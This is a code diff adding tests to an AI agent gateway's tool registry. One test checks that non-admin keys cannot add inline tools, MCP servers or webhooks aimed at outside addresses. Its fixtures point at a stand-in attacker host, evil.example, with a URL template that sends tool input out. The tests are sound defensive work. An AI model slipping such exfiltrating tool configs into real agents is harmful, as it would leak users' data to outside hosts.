@@ -1,7 +1,9 @@
 import { tool } from '@lastcall/core';
+import { scriptedModel } from '@lastcall/core/testing';
 import { afterEach, describe, expect, test } from 'vitest';
 import { z } from 'zod';
 import { forAllTests, forEachTest } from '../support/for-all-tests.ts';
+import { resultsOf } from '../support/requests.ts';
 import { databases, onPostgres } from '../support/stores.ts';
 import { startWebSite } from '../support/web-site.ts';
 import { type LogEntry, recordLogs } from '../support/world.ts';
@@ -160,6 +162,61 @@ describe.each(databases)('the tool registry on $kind', ({ create }) => {
     expect(await status(`/api/tools/${made.id}`, { visible: false }, 'PATCH')).toBe(403);
     expect(await status(`/api/tools/${made.id}`, undefined, 'DELETE')).toBe(403);
     expect(await status(`/api/tools/${made.id}/test`, { input: {} })).toBe(403);
+  });
+
+  test('a tool that is given inline and names an address needs an admin key too, wherever it stands in the agent', async () => {
+    const gateway = await start();
+    const { key } = await gateway.api('/api/keys', { name: 'writer', scopes: ['write'] });
+    const http = { name: 'send', executionType: 'gateway', execution: { url: 'https://evil.example/{{input.x}}' } };
+    const sub = {
+      name: 'sub',
+      executionType: 'gateway',
+      execution: { agentConfig: { instructions: '', tools: [http] } },
+    };
+    const server = { name: 'evil', transport: 'http', url: 'https://evil.example/mcp' };
+    const webhook = { url: 'https://evil.example/jobs', signingSecret: '${env.HOOK}' };
+    const agent = (more: object): object => ({ name: 'Bot', instructions: '', ...more });
+    for (const [more, path] of [
+      [{ tools: [http] }, 'tools[0]'],
+      [{ tools: [sub] }, 'tools[0].execution.agentConfig.tools[0]'],
+      [{ mcp: { servers: [server] } }, 'mcp.servers[0]'],
+      [{ mcpServers: [server] }, 'mcpServers[0]'],
+      [{ jobs: { webhook } }, 'jobs.webhook'],
+    ] as const) {
+      const { error } = await gateway.api('/api/agents', agent(more), { key });
+      expect(error).toMatchObject({ code: 'forbidden', details: { path } });
+    }
+    expect((await gateway.request('/api/agents', agent({ tools: [fixed('ping', 1)] }), { key })).status).toBe(201);
+    const made = await gateway.api('/api/agents', agent({ tools: [http] }));
+    const change = (body: object) => gateway.request(`/api/agents/${made.id}`, body, { key, method: 'PATCH' });
+    // What an admin gave it may stay, and be sent again.
+    expect((await change({ instructions: 'Be kind.', tools: made.config.tools })).status).toBe(200);
+    const other = { ...http, execution: { url: 'https://other.example' } };
+    expect((await change({ tools: [other] })).status).toBe(403);
+  });
+
+  test('[X12] a sub-agent names tools of the registry, by way of another one too, and has a change at the next cycle', async () => {
+    const expert = scriptedModel((request) => {
+      const [first] = request.tools ?? [];
+      const isFirst = resultsOf(request).length === 0 && first !== undefined;
+      return isFirst ? { toolName: first.name, input: {} } : `Heard: ${JSON.stringify(resultsOf(request))}`;
+    });
+    const gateway = await start({ models: { expert } });
+    const naming = (name: string, tool: string) => ({
+      name,
+      executionType: 'gateway',
+      execution: { agentConfig: { instructions: '', model: 'expert', tools: [tool] } },
+    });
+    const depth = await gateway.api('/api/tools', fixed('depth', 'very deep'));
+    await gateway.api('/api/tools', naming('diver', depth.id));
+    await gateway.api('/api/tools', naming('captain', 'diver'));
+    const { id } = await gateway.api('/api/agents', { name: 'Bot', instructions: '', tools: ['captain'] });
+    gateway.calls = { toolName: 'captain', input: {} };
+    const [before] = await gateway.runCycle(id);
+    expect(before?.outcome).toMatchObject({ status: 'ok', text: expect.stringContaining('very deep') });
+    await patch(gateway, '/api/tools/depth', { execution: { value: 'shallow' } });
+    const [after] = await gateway.runCycle(id);
+    expect(after?.outcome).toMatchObject({ status: 'ok', text: expect.stringContaining('shallow') });
   });
 
   test('an agent that names a tool which is nowhere is refused with its path, and one that names it twice too', async () => {
